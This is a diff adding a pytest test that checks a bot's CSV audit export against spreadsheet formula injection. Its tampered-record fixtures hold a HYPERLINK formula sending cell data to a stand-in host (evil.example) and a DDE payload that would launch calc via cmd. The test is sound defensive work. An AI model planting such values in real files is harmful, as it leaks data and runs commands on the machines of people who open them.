@@ -3,12 +3,15 @@ neither break a card, nor an export, nor reach a place they were never meant to.
 
 from __future__ import annotations
 
+import csv
 import http.server
+import io
 import json
 import threading
 from pathlib import Path
 from typing import Any, ClassVar
 
+import pytest
 from engine_support import THREAD, message, replies, restarts
 from governance_support import approve, park
 from test_cards_content import NOW, make
@@ -18,9 +21,11 @@ from agent_core.audit import audit_records
 from agent_core.surface import CardView, RecordingSurface
 from agent_core.tools import Tool, ToolContext
 from agent_core.tools.json_schema import SchemaChecker
-from approvals import ApprovalRequest, Decided, Decision
+from approvals import ApprovalRequest, Decided, Decision, PolicyRule
 from approvals.records import Edit
 from bot.cards import card_blocks
+from bot.cli import main
+from bot.cli_audit import CSV_COLUMNS
 from localslack.blockkit import validate_blocks
 from sessions import FixedClock, Home, utc_iso
 
@@ -160,3 +165,44 @@ async def test_an_approved_call_whose_decision_names_a_missing_edit_never_runs(
     assert restarts(home) == 0 and request.claimed() is None
     assert request.told() is not None
     assert any("not run" in text and "edit 2" in text for text in replies(surface))
+
+
+async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    home: Home,
+    clock: FixedClock,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Auditors open the CSV in a spreadsheet, where a cell that starts with ``=``, ``+``,
+    ``-`` or ``@`` is a formula. A tampered record put its text at the start of a cell
+    (the export of a tampered home is exactly what they look at), and ran in their sheet."""
+    rule = PolicyRule(quorum=2, require_reason=True)
+    capsule = park(home, clock, rule)
+    reason = '=HYPERLINK("http://evil.example/?"&A1, "ok"),\n+1, -2 @3'
+    await approve(home, capsule, "U0BOB", clock, reason=reason)
+    await approve(home, capsule, "U0CAROL", clock, reason="fine")
+    approvals = Path(home.session_dir(capsule.session_id)) / "approvals"
+    vote = approvals / f"{capsule.id}.votes" / "U0CAROL.json"
+    data = json.loads(vote.read_text())
+    data["user"] = '=HYPERLINK("http://evil.example/","vote")'
+    vote.write_text(json.dumps(data))
+    decision = approvals / f"{capsule.id}.decision.json"
+    data = json.loads(decision.read_text())
+    data["deciders"] = ["+cmd|' /C calc'!A0", "U0BOB", "@SUM(1)", "-1"]
+    decision.write_text(json.dumps(data))
+    monkeypatch.setenv("SIGNOFF_HOME", str(home.root))
+    for name in ("SIGNOFF_POLICY", "SIGNOFF_CONFIG", "SIGNOFF_MODEL"):
+        monkeypatch.delenv(name, raising=False)
+    capsys.readouterr()
+    # Not flagged: a decision is sealed only once told, and votes not at all (see
+    # docs/design-notes.md, Audit); what matters here is what the cells start with.
+    main(["audit", "--format", "csv"])
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0] == CSV_COLUMNS and len(rows) == 2
+    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+    # Shown as written, behind a quote a spreadsheet does not display.
+    assert row["votes"].startswith("'=HYPERLINK(")
+    assert row["deciders"] == "'+cmd|' /C calc'!A0; U0BOB; @SUM(1); -1"
+    # Commas and newlines in a reason stay inside their cell.
+    assert f"U0BOB: {reason.strip()}" in row["reasons"]
